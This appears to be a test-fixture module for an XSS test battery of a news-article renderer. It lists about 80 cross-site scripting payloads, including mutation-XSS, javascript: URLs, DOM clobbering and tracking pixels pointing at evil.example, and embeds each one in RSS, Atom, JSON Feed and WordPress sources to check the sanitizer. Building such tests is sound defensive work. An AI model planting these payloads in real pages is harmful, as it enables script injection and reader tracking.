// The XSS battery's vectors and sources, shared by the browser battery (news-article-xss.test.ts), the strict-CSP
// page (test/csp/strict-page.test.ts), which counts the reports they cause, and the server rendering test
// (test/server/render.test.ts): every vector goes into every field of every source format.

/** Escapes text for an XML element or attribute. */
export function xml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** Each payload calls `__xss(name)` if it ever runs; some only try to navigate or to leave a dangerous attribute. */
export const VECTORS: readonly (readonly [name: string, payload: string])[] = [
  // Scripts and event handlers
  ['script', '<script>__xss("script")</script>'],
  ['script-src', '<script src="https://evil.example/x.js"></script>'],
  ['img-onerror', '<img src=x onerror=__xss("img-onerror")>'],
  ['img-slash-onerror', '<img/src/onerror=__xss("img-slash-onerror")>'],
  ['img-valid-onload', '<img src="https://img.example/ok.png" onload="__xss(\'img-valid-onload\')" onerror="__xss(\'img-valid-onload\')">'],
  ['svg-onload', '<svg onload=__xss("svg-onload")></svg>'],
  ['body-onload', '<body onload=__xss("body-onload")><p>x</p></body>'],
  ['details-ontoggle', '<details open ontoggle=__xss("details-ontoggle")><summary>s</summary>d</details>'],
  ['autofocus-onfocus', '<input autofocus onfocus=__xss("autofocus-onfocus")>'],
  ['p-handlers', '<p onclick=__xss("p-handlers") onmouseover=__xss("p-handlers") onpointerenter=__xss("p-handlers")>hover me</p>'],
  ['video-source-onerror', '<video><source onerror=__xss("video-source-onerror")></video>'],
  ['audio-onerror', '<audio src=x onerror=__xss("audio-onerror")></audio>'],
  ['marquee-onstart', '<marquee onstart=__xss("marquee-onstart")>m</marquee>'],
  ['frameset-onload', '<frameset onload=__xss("frameset-onload")>'],
  ['input-image', '<input type=image src=x onerror=__xss("input-image")>'],
  ['custom-element', '<x-widget onclick=__xss("custom-element") is="x">c</x-widget><news-article src="javascript:__xss(1)"></news-article>'],
  ['attribute-breakout', '"><img src=x onerror=__xss("attribute-breakout")>'],
  ['double-escaped', '&lt;img src=x onerror=__xss("double-escaped")&gt;'],
  // Frames, plugins and documents inside documents
  ['iframe-srcdoc', '<iframe srcdoc="<script>parent.__xss(\'iframe-srcdoc\')</script>"></iframe>'],
  ['iframe-javascript', '<iframe src="javascript:parent.__xss(\'iframe-javascript\')"></iframe>'],
  ['object-data', '<object data="javascript:__xss(\'object-data\')"></object>'],
  ['embed-src', '<embed src="javascript:__xss(\'embed-src\')">'],
  ['template-shadowroot', '<div><template shadowrootmode="open"><img src=x onerror=__xss("template-shadowroot")></template></div>'],
  // Links and addresses
  ['a-javascript', '<a href="javascript:__xss(\'a-javascript\')">link</a>'],
  ['a-javascript-case', '<a href="JaVaScRiPt:__xss(\'a-javascript-case\')">link</a>'],
  ['a-javascript-tab', '<a href="java&#x09;script:__xss(\'a-javascript-tab\')">link</a>'],
  ['a-javascript-entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss(\'a-javascript-entities\')">link</a>'],
  ['a-javascript-colon-entity', '<a href="javascript&colon;__xss(\'a-javascript-colon-entity\')">link</a>'],
  ['a-javascript-leading-controls', '<a href=" &#14;&#x20;javascript:__xss(\'a-javascript-leading-controls\')">link</a>'],
  ['a-data-html', '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMSk8L3NjcmlwdD4=">link</a>'],
  ['a-vbscript', '<a href="vbscript:msgbox(1)">link</a>'],
  ['a-file-blob', '<a href="file:///etc/passwd">f</a><a href="blob:https://news.example/1">b</a><a href="intent://x#Intent;end">i</a>'],
  ['a-opener', '<a href="https://evil.example/" target="_blank" rel="opener">tabnabbing</a>'],
  ['a-ping', '<a href="https://news.example/" ping="https://evil.example/ping">ping</a>'],
  ['img-javascript', '<img src="javascript:__xss(\'img-javascript\')">'],
  ['img-data-svg', '<img src="data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22parent.__xss(1)%22/&gt;">'],
  ['srcset-javascript', '<img src="https://img.example/ok.png" srcset="javascript:__xss(\'srcset-javascript\') 1x, https://img.example/ok.png 2x">'],
  ['srcset-data', '<img src="https://img.example/ok.png" srcset="data:image/png;base64,iVBORw0KGgo= 2x">'],
  ['srcset-commas', '<img src="https://img.example/ok.png" srcset=",,,,javascript:__xss(\'srcset-commas\') 1x">'],
  ['base-href', '<base href="javascript:__xss(\'base-href\')//"><a href="relative">r</a><img src="relative.png">'],
  ['meta-refresh', '<meta http-equiv="refresh" content="0;url=javascript:__xss(\'meta-refresh\')">'],
  ['link-stylesheet', '<link rel="stylesheet" href="javascript:__xss(\'link-stylesheet\')"><link rel="preload" as="script" href="https://evil.example/x.js">'],
  // Forms
  ['form-action', '<form action="javascript:__xss(\'form-action\')"><input name="q"><button>Go</button></form>'],
  ['button-formaction', '<button formaction="javascript:__xss(\'button-formaction\')">Go</button>'],
  ['isindex', '<isindex action="javascript:__xss(\'isindex\')" type="image">'],
  // SVG and MathML
  ['svg-script', '<svg><script>__xss("svg-script")</script></svg>'],
  ['svg-xlink', '<svg><a xlink:href="javascript:__xss(\'svg-xlink\')"><text x="20" y="20">x</text></a></svg>'],
  ['svg-animate', '<svg><a><animate attributeName="href" values="javascript:__xss(\'svg-animate\')"/><text x="20" y="20">x</text></a></svg>'],
  ['svg-foreignobject', '<svg><foreignObject><iframe srcdoc="<script>parent.__xss(\'svg-foreignobject\')</script>"></iframe></foreignObject></svg>'],
  ['svg-use-data', '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x"/></svg>'],
  ['math-href', '<math href="javascript:__xss(\'math-href\')"><mi>x</mi></math>'],
  ['math-maction', '<math><maction actiontype="statusline" xlink:href="javascript:__xss(\'math-maction\')">x</maction></math>'],
  // Mutation XSS: markup that parses differently the second time it is parsed
  ['mxss-noscript', '<noscript><p title="</noscript><img src=x onerror=__xss(\'mxss-noscript\')>"></p></noscript>'],
  ['mxss-svg-style', '<svg></p><style><a id="</style><img src=1 onerror=__xss(\'mxss-svg-style\')>"></a></style></svg>'],
  ['mxss-math-mglyph', '<math><mtext><table><mglyph><style><img src=x onerror=__xss(\'mxss-math-mglyph\')></style></mglyph></table></mtext></math>'],
  ['mxss-form-nesting', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(\'mxss-form-nesting\')>'],
  ['mxss-comment', '<!-- --!><img src=x onerror=__xss(\'mxss-comment\')>-->'],
  ['mxss-textarea', '<textarea><img src=x onerror=__xss(\'mxss-textarea\')></textarea><title><img src=x onerror=__xss(\'mxss-textarea\')></title>'],
  ['mxss-xmp-plaintext', '<xmp><img src=x onerror=__xss(\'mxss-xmp-plaintext\')></xmp><plaintext><img src=x onerror=__xss(\'mxss-xmp-plaintext\')>'],
  // DOM clobbering
  ['clobber-document', '<img name="getElementById" src="https://img.example/ok.png"><form name="cookie"></form><a id="defaultView" name="body" href="https://news.example/">c</a>'],
  ['clobber-globals', '<a id="__xss" href="https://news.example/">a</a><a id="__xss" name="__xss" href="https://news.example/">b</a><img id="alert" src="https://img.example/ok.png">'],
  // CSS
  ['css-url-attribute', '<p style="background:url(javascript:__xss(\'css-url-attribute\'))">css</p>'],
  ['css-url-tracking', '<p style="background-image:url(https://evil.example/track.png)">tracked</p>'],
  ['css-style-element', '<style>p{background:url("javascript:__xss(\'css-style-element\')")}@import "https://evil.example/x.css";</style><p>x</p>'],
  ['css-expression', '<p style="width:expression(__xss(\'css-expression\'))">ie</p>'],
  // Plain URL strings, for the link and image fields
  ['url-javascript', 'javascript:__xss("url-javascript")'],
  ['url-javascript-spaced', '  JAVASCRIPT:__xss("url-javascript-spaced")'],
  ['url-javascript-newline', 'java\nscript:__xss("url-javascript-newline")'],
  ['url-data', 'data:text/html,<script>__xss("url-data")</script>'],
  ['url-vbscript', 'vbscript:msgbox("url-vbscript")'],
  ['url-quote-breakout', 'https://img.example/ok.png" onerror="__xss(\'url-quote-breakout\')'],
  // Text that must stay text: CDATA sections, processing instructions and comments that an HTML parser ends early,
  // doubly escaped markup (raw in Atom xhtml content, as text everywhere else)
  ['text-cdata', '<p>c<![CDATA[<img src="https://evil.example/cdata.png" onerror=__xss("text-cdata")>]]></p>'],
  ['text-processing-instruction', '<p>p<?pi ><img src="https://evil.example/pi.png" onerror=__xss("text-processing-instruction")>?></p>'],
  ['text-comment-abrupt', '<p>c<!--><img src="https://evil.example/comment.png" onerror=__xss("text-comment-abrupt")>--></p>'],
  ['text-double-escaped-entities', '&amp;lt;img src="https://evil.example/double.png" onerror=__xss("text-double-escaped-entities")&amp;gt;'],
  // Pictures a reader never sees, which only tell their host that someone read: none may load, none may lead
  ['lead-noscript', '<noscript><img src="https://evil.example/noscript-lead.png" width="800" height="600"></noscript><p>Text.</p>'],
  ['pixel-declared', '<p>t<img src="https://evil.example/p.gif" width="1" height="1"><img src="https://evil.example/z.gif" width="0" height="0"></p>'],
  ['pixel-hidden', '<p>t<img src="https://evil.example/h.gif" hidden><img src="https://evil.example/n.gif" style="display:none"><img src="https://evil.example/v.gif" style="visibility:hidden"></p>'],
  ['pixel-beacon-path', '<p>t<img src="https://evil.example/beacon/open.gif"><img src="https://stats.evil.example/b.gif?blog=1"><img src="https://evil.example/tracking/1x1.png"></p>'],
];

/**
 * Picture addresses that no vector may make the page ask for, in any format: pixels, beacons, a lead picture from
 * a <noscript>, and tags that only CDATA or double escaping wrote (which HTML reads as a comment or as text).
 */
export const NEVER_ASKED = /^https:\/\/(?:stats\.)?evil\.example\/(?:(?:cdata|double|noscript-lead|p|z|h|n|v|b|beacon\/open)\.(?:png|gif)|tracking\/)/;

/** What Atom xhtml content must not ask for besides: in XHTML a processing instruction or a comment is no markup. */
export const NEVER_ASKED_FROM_XHTML = /^https:\/\/evil\.example\/(?:pi|comment)\.png/;

export type Format = 'jsonfeed' | 'jsonfeed-item' | 'rss' | 'atom' | 'atom-xhtml' | 'wordpress';
export type Field = 'title' | 'summary' | 'link' | 'image' | 'body' | 'category' | 'author';

export const FORMATS: readonly Format[] = ['jsonfeed', 'jsonfeed-item', 'rss', 'atom', 'atom-xhtml', 'wordpress'];
export const FIELDS: readonly Field[] = ['title', 'summary', 'link', 'image', 'body', 'category', 'author'];
/** Atom with its body as inline XHTML, the payload written raw into it: only the body differs from 'atom'. */
export const fieldsOf = (format: Format): readonly Field[] => (format === 'atom-xhtml' ? ['body'] : FIELDS);

const BENIGN: Record<Field, string> = {
  title: 'Benign title',
  summary: 'Benign summary.',
  link: 'https://news.example/benign',
  image: 'https://img.example/benign.png',
  body: '<p>Benign body.</p>',
  category: 'World',
  author: 'Benign Author',
};

export const ITEM_ID = 'xss-item';

/** A source of `format` whose `field` holds `payload`; the summary field goes without a body, so that it is what shows. */
export function source(format: Format, field: Field, payload: string): { text: string; type: string } {
  const value: Record<Field, string> = { ...BENIGN, [field]: payload };
  if (field === 'summary') value.body = '';
  const item = {
    id: ITEM_ID,
    url: value.link,
    title: value.title,
    summary: value.summary,
    ...(value.body && { content_html: value.body }),
    image: value.image,
    date_published: '2026-11-26T18:47:00Z',
    authors: [{ name: value.author }],
    _news: { category: value.category, views: 131 },
  };
  switch (format) {
    case 'jsonfeed':
      return { text: JSON.stringify({ version: 'https://jsonfeed.org/version/1.1', title: 'XSS', items: [item] }), type: 'application/feed+json' };
    case 'jsonfeed-item':
      return { text: JSON.stringify(item), type: 'application/json' };
    case 'wordpress':
      return {
        text: JSON.stringify({
          id: ITEM_ID,
          link: value.link,
          date_gmt: '2026-11-26T18:47:00',
          title: { rendered: value.title },
          excerpt: { rendered: value.summary },
          content: { rendered: value.body },
          _embedded: {
            'wp:featuredmedia': [{ source_url: value.image, alt_text: value.title }],
            'wp:term': [[{ taxonomy: 'category', name: value.category }]],
            author: [{ name: value.author }],
          },
        }),
        type: 'application/json',
      };
    case 'rss':
      return {
        text: `<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
<channel><title>XSS</title><link>https://news.example/</link>
<item><guid isPermaLink="false">${ITEM_ID}</guid><title>${xml(value.title)}</title><link>${xml(value.link)}</link>
<description>${xml(value.summary)}</description>${value.body ? `<content:encoded>${xml(value.body)}</content:encoded>` : ''}
<media:content url="${xml(value.image)}" medium="image"/><category>${xml(value.category)}</category><dc:creator>${xml(value.author)}</dc:creator>
<pubDate>Thu, 26 Nov 2026 18:47:00 GMT</pubDate></item></channel></rss>`,
        type: 'application/rss+xml',
      };
    case 'atom':
    case 'atom-xhtml':
      return {
        text: `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>XSS</title><id>urn:xss</id><updated>2026-11-26T18:47:00Z</updated>
<entry><id>${ITEM_ID}</id><title type="html">${xml(value.title)}</title><updated>2026-11-26T18:47:00Z</updated>
<link rel="alternate" href="${xml(value.link)}"/><link rel="enclosure" type="image/png" href="${xml(value.image)}"/>
<summary type="html">${xml(value.summary)}</summary>${
          !value.body ? '' : format === 'atom' ? `<content type="html">${xml(value.body)}</content>` : `<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">${value.body}</div></content>`
        }
<category term="${xml(value.category)}"/><author><name>${xml(value.author)}</name></author></entry></feed>`,
        type: 'application/atom+xml',
      };
  }
}

export const URL_ATTRIBUTES = new Set(['href', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'cite', 'ping', 'longdesc', 'lowsrc', 'dynsrc', 'manifest', 'codebase', 'archive', 'usemap', 'icon']);

// Elements that run script, load documents or plugins, submit, style, or change how the page resolves addresses.
export const FORBIDDEN = new Set([
  'script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'param', 'portal', 'form', 'input', 'button', 'select',
  'textarea', 'option', 'meta', 'base', 'link', 'svg', 'math', 'template', 'noscript', 'xmp', 'plaintext', 'title', 'video', 'audio',
  'source', 'track', 'canvas', 'dialog', 'details', 'marquee', 'isindex', 'keygen', 'body', 'head', 'html',
]);

/**
 * Whether the value of attribute `name` of a `<tag>` holds an address a sanitized body must not have: anything but
 * an absolute http(s) address, or mailto in a link's href. A relative address would resolve against the host page.
 */
export function unsafeAddress(tag: string, name: string, value: string): boolean {
  if (!URL_ATTRIBUTES.has(name.toLowerCase())) return false;
  const addresses = name === 'srcset' ? value.split(/,\s+/).map(candidate => candidate.trim().split(/\s+/)[0]) : [value];
  return addresses.some(address => {
    let protocol = 'relative';
    try {
      protocol = new URL(address).protocol;
    } catch {
      // stays "relative"
    }
    return !(protocol === 'http:' || protocol === 'https:' || (protocol === 'mailto:' && tag === 'a' && name === 'href'));
  });
}
